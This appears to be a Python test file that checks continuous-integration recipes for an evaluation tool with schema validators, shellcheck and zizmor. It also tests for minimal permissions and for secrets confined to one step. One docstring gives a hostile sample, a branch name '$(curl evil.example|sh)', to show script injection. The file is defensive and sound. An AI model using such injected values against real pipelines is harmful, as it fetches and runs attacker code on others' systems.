"""What the recipes and the page about them say, read by the linters of others."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import pytest
from ruamel.yaml import YAML

from evals.commands.gate import EXIT_CODES
from tests.ci.conftest import COMMENT, GITHUB, GITLAB, PAGE
from tests.ci.github_job import load

WORKFLOWS = [GITHUB, COMMENT]
# The actions are GitHub's own, for which a major version will do.
ZIZMOR = 'rules: {unpinned-uses: {config: {policies: {"actions/*": ref-pin}}}}\n'


def snippet(language: str, first: str) -> str:
    """The block of code on the page whose first line is ``first``."""
    [found] = re.findall(rf"^```{language}\n({re.escape(first)}\n.*?)^```$", PAGE.read_text(), re.MULTILINE | re.DOTALL)
    return str(found)


def steps(path: Path):
    return [step for job in load(path)["jobs"].values() for step in job["steps"]]


def scripts():
    """Every piece of shell in a recipe or on the page, with a name."""
    for path in WORKFLOWS:
        for step in steps(path):
            if "run" in step:
                yield f"{path.name}: {step['name']}", step["run"]
    job = load(GITLAB)["evaluate"]
    yield ".gitlab-ci.yml", "\n".join([*job["before_script"], *job["script"]])
    for step in YAML(typ="safe").load(snippet("yaml", "# azure-pipelines.yml"))["steps"]:
        if "bash" in step:
            yield f"azure-pipelines.yml: {step['displayName']}", step["bash"]
    for number, block in enumerate(re.findall(r"^```bash\n(.*?)^```$", PAGE.read_text(), re.MULTILINE | re.DOTALL)):
        yield f"ci.md: {number}", block


def check(tool: str, *arguments: str, stdin: str | None = None) -> None:
    """Run a linter, installed beside this Python, and show what it has to say."""
    program = Path(sys.executable).with_name(tool)
    if not program.exists():
        pytest.skip(f"{tool} is not installed (extra `test`)")
    done = subprocess.run(
        [program, *arguments],
        input=stdin,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        encoding="utf-8",
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stdout


def check_schema(name: str, path: Path) -> None:
    # Azure's schema has a pattern that is none in the stricter variant.
    check("check-jsonschema", "--builtin-schema", f"vendor.{name}", "--regex-variant", "nonunicode", str(path))


@pytest.mark.parametrize(
    ("schema", "path"),
    [("github-workflows", GITHUB), ("github-workflows", COMMENT), ("gitlab-ci", GITLAB)],
    ids=lambda value: getattr(value, "name", value),
)
def test_recipes_agree_with_the_schema_of_their_system(schema, path):
    check_schema(schema, path)


@pytest.mark.parametrize(
    ("schema", "first"), [("azure-pipelines", "# azure-pipelines.yml"), ("circle-ci", "# .circleci/config.yml")]
)
def test_snippets_agree_with_the_schema_of_their_system(schema, first, tmp_path):
    (tmp_path / "snippet.yml").write_text(snippet("yaml", first))
    check_schema(schema, tmp_path / "snippet.yml")


@pytest.mark.parametrize("script", [pytest.param(script, id=name) for name, script in scripts()])
def test_shell_has_no_faults_that_shellcheck_knows(script):
    check("shellcheck", "--shell=bash", "-", stdin=script)


def test_workflows_have_no_weakness_that_zizmor_knows(tmp_path):
    (tmp_path / "zizmor.yml").write_text(ZIZMOR)
    config = ["--config", str(tmp_path / "zizmor.yml")]
    check("zizmor", "--offline", "--no-progress", "--persona=pedantic", *config, *map(str, WORKFLOWS))


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
def test_no_expression_stands_in_a_script(path):
    """GitHub would paste its value into the program: a branch may be called ``$(curl evil.example|sh)``."""
    texts = [step.get("run", "") + step.get("with", {}).get("script", "") for step in steps(path)]
    assert any(texts)
    assert not [text for text in texts if "${{" in text]


def test_the_workflow_that_may_comment_runs_nothing_of_the_pull_request():
    assert [step.get("uses", "a shell") for step in steps(COMMENT)] == [
        "actions/download-artifact@v7",
        "actions/github-script@v8",
    ]


def test_workflows_may_do_no_more_than_they_need():
    workflow = load(COMMENT)
    assert load(GITHUB)["permissions"] == {"contents": "read"}
    assert "permissions" not in load(GITHUB)["jobs"]["evaluate"]
    assert workflow["permissions"] == {}
    assert workflow["jobs"]["comment"]["permissions"] == {"actions": "read", "pull-requests": "write"}


def test_keys_of_judges_reach_the_evaluation_alone():
    workflow = load(GITHUB)
    [evaluate] = [step for step in steps(GITHUB) if "secrets." in str(step)]
    assert evaluate["name"] == "Evaluate"
    assert "secrets." not in str({**workflow, "jobs": {"evaluate": {**workflow["jobs"]["evaluate"], "steps": []}}})


def test_the_comment_follows_the_evaluation_and_takes_its_artifact():
    [upload] = [step["with"] for step in steps(GITHUB) if "upload-artifact" in step.get("uses", "")]
    workflow = load(COMMENT)
    assert workflow["on"]["workflow_run"]["workflows"] == [load(GITHUB)["name"]]
    assert workflow["jobs"]["comment"]["steps"][0]["with"]["name"] == upload["name"]


def test_the_page_names_every_exit_code_of_the_gate():
    rows = re.findall(r"^\| (\d) \| (\w+)", PAGE.read_text(), re.MULTILINE)
    known = {(str(code), outcome) for outcome, code in EXIT_CODES.items() if outcome != "not evaluated"}
    assert set(rows) == known | {("2", "wrong")}
